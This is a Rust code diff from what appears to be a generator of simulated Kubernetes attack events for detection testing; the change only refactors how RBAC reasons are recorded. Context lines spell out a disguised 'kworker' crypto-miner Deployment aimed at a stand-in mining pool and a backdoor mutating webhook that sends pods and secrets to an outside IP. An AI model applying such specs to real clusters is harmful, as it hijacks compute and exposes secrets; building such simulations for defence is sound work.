@@ -16,7 +16,7 @@ pub(super) fn miner(week: &mut Week, at: Micros) {
     let Some(pod) = pod_of(week, "exports") else { return };
     plant(week, at, "a miner is deployed with a pod's token", account(&pod));
     let mut who = week.cluster.account(&pod, "curl/8.5.0");
-    who.reason = r#"RBAC: allowed by RoleBinding "exports-edit/insights" of ClusterRole "edit" to ServiceAccount "exports/insights""#.to_owned();
+    who = who.allowed_by(r#"RBAC: allowed by RoleBinding "exports-edit/insights" of ClusterRole "edit" to ServiceAccount "exports/insights""#);
     let spec = json!({ "spec": { "replicas": 6, "selector": { "matchLabels": { "app": "kworker" } }, "template": { "metadata": { "labels": { "app": "kworker" } }, "spec": { "containers": [{ "name": "kworker", "image": "docker.io/kworkerd/xmrig:latest", "command": ["/bin/sh", "-c", "xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 48xq --donate-level 1"] }] } } } });
     let body = applied("Deployment", "apps/v1", "insights", "kworker", &spec);
     steps(
@@ -71,7 +71,7 @@ pub(super) fn backdoor_webhook(week: &mut Week, at: Micros) {
     let Some(pod) = pod_of(week, "labels") else { return };
     plant(week, at, "a webhook outside of the cluster may change every pod", account(&pod));
     let mut who = week.cluster.account(&pod, "Go-http-client/2.0");
-    who.reason = r#"RBAC: allowed by ClusterRoleBinding "labels-admin" of ClusterRole "cluster-admin" to ServiceAccount "labels/fulfil""#.to_owned();
+    who = who.allowed_by(r#"RBAC: allowed by ClusterRoleBinding "labels-admin" of ClusterRole "cluster-admin" to ServiceAccount "labels/fulfil""#);
     let more = json!({ "webhooks": [{ "name": "inject.pods.example", "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"], "clientConfig": { "url": "https://203.0.113.80/mutate" }, "rules": [{ "apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["pods", "secrets"] }] }] });
     let body = applied(
         "MutatingWebhookConfiguration",
@@ -141,7 +141,7 @@ pub(super) fn shadow_job(week: &mut Week, at: Micros) {
         account(&pod),
     );
     let mut who = week.cluster.account(&pod, "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc");
-    who.reason = r#"RBAC: allowed by ClusterRoleBinding "reviews-admin" of ClusterRole "cluster-admin" to ServiceAccount "reviews/catalog""#.to_owned();
+    who = who.allowed_by(r#"RBAC: allowed by ClusterRoleBinding "reviews-admin" of ClusterRole "cluster-admin" to ServiceAccount "reviews/catalog""#);
     let mut template = pod_spec("sync", "generic-garbage-collector", "alpine:3");
     if let Some(container) = template.pointer_mut("/containers/0").and_then(Value::as_object_mut) {
         container.insert(
